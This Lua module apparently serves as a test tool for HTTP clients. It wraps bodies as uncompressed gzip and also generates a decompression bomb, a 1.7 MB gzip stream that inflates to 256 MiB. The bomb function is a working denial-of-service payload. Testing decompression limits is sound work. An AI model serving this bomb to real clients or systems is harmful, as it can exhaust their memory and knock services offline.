--- gzip without zlib: an honest wrapper and a bomb.
-- Owns: stored-block gzip of small bodies, and 256 MiB of spaces in 1.7 MB (RFC 1951, 1952).
-- Stands on: http.bit (lua-http). lua-zlib is not needed.
-- Never: really compresses; it exists to see how a client unpacks.

local bit = require "http.bit"

local gzip = {}

local HEADER = "\31\139\8\0\0\0\0\0\0\3"
local MAX_STORED = 65535

local crc_table = {}
for i = 0, 255 do
  local c = i
  for _ = 1, 8 do
    local odd = c % 2 == 1
    c = math.floor(c / 2)
    if odd then c = bit.bxor(c, 0xEDB88320) % 4294967296 end
  end
  crc_table[i] = c
end

local function crc32(bytes)
  local c = 0xFFFFFFFF
  for i = 1, #bytes do
    local index = bit.bxor(c % 256, bytes:byte(i))
    c = bit.bxor(math.floor(c / 256), crc_table[index]) % 4294967296
  end
  return 0xFFFFFFFF - c
end

local function little_endian(n, size)
  local out = {}
  for i = 1, size do
    out[i] = string.char(n % 256)
    n = math.floor(n / 256)
  end
  return table.concat(out)
end

--- Wrap bytes as gzip, uncompressed inside.
---@param bytes string
---@return string
function gzip.wrap(bytes)
  local parts = { HEADER }
  for at = 1, math.max(#bytes, 1), MAX_STORED do
    local block = bytes:sub(at, at + MAX_STORED - 1)
    local final = at + MAX_STORED > #bytes and "\1" or "\0"
    parts[#parts + 1] = final .. little_endian(#block, 2) .. little_endian(65535 - #block, 2)
    parts[#parts + 1] = block
  end
  return table.concat(parts) .. little_endian(crc32(bytes), 4) .. little_endian(#bytes, 4)
end

-- Bits in stream order to bytes, lowest bit first.
local function pack(bits)
  bits = bits .. ("0"):rep(-#bits % 8)
  return (bits:gsub("........", function(octet)
    return string.char(tonumber(octet:reverse(), 2))
  end))
end

-- With the fixed Huffman codes one match copies 258 bytes and costs 13 bits; eight matches fill 13
-- bytes, so the middle of the stream is one 13-byte pattern over and over.
local LITERALS, ROUNDS = 1936, 130055
local SPACE, MATCHES, STOP = "01010000", ("1100010100000"):rep(8), "0000000"
local BOMB_CRC, BOMB_SIZE = 0x0600C437, 268435456

--- 256 MiB of spaces: a valid gzip stream of 1.7 MB.
---@return string
function gzip.bomb()
  local start = pack("110" .. SPACE:rep(LITERALS) .. MATCHES .. MATCHES)
  local head, period = start:sub(1, LITERALS + 1), start:sub(LITERALS + 2, LITERALS + 14)
  local tail = pack(MATCHES:sub(6) .. STOP)
  return HEADER .. head .. period:rep(ROUNDS - 1) .. tail
    .. little_endian(BOMB_CRC, 4) .. little_endian(BOMB_SIZE, 4)
end

return gzip
